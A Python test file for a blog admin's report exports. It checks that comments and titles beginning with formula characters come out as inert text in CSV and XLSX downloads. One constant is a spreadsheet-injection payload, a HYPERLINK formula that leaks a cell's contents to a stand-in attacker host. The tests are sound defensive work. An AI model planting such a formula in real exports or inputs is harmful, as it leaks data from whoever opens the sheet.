"""Report exports: a formula a reader typed is text in the CSV and a text cell in the XLSX."""

import csv
import datetime
import io

import openpyxl
import pytest

from tests.blog.factories import ArticlePageFactory, ClinicalReviewerFactory, PageFeedbackFactory
from tests.home.factories import editor_user

COMMENTS_REPORT = "/admin/blog-reports/feedback-comments/"
REVIEW_REPORT = "/admin/blog-reports/review-due/"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for help")'


@pytest.fixture
def editor(client, db):
    client.force_login(editor_user())


@pytest.fixture
def article(article_index):
    return ArticlePageFactory(parent=article_index, title="Sleeping with sciatica")


def csv_table(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def xlsx_cells(response):
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [list(row) for row in sheet.iter_rows()]


def test_a_formula_posted_as_feedback_is_text_in_the_csv(article, client, editor):
    PageFeedbackFactory(article=article, helpful=False, comment=FORMULA)
    PageFeedbackFactory(article=article, helpful=False, comment="-- too short")
    PageFeedbackFactory(article=article, helpful=True, comment="Clear and kind")

    table = csv_table(client.get(COMMENTS_REPORT, {"export": "csv"}))

    comments = sorted(row[3] for row in table[1:])
    assert comments == sorted(["'" + FORMULA, "'-- too short", "Clear and kind"])


def test_a_formula_posted_as_feedback_is_a_text_cell_in_the_xlsx(article, client, editor):
    PageFeedbackFactory(article=article, helpful=False, comment=FORMULA)

    [_heading, row] = xlsx_cells(client.get(COMMENTS_REPORT, {"export": "xlsx"}))

    comment = row[3]
    assert comment.value == FORMULA, "typed text, without the apostrophe a CSV needs"
    assert comment.data_type == "s"


def test_the_review_report_csv_neutralises_its_text_too(article_index, client, editor):
    reviewer = ClinicalReviewerFactory(name="@Mallory")
    ArticlePageFactory(
        parent=article_index,
        title="+Stretches",
        medical_reviewer=reviewer,
        last_reviewed=datetime.date(2024, 1, 1),
        next_review_due=datetime.date(2025, 1, 1),
    )

    table = csv_table(client.get(REVIEW_REPORT, {"export": "csv"}))

    [row] = table[1:]
    assert row[0] == "'+Stretches"
    assert row[4] == "'@Mallory"
    assert row[5:7] == ["0", "0"], "counts stay numbers"
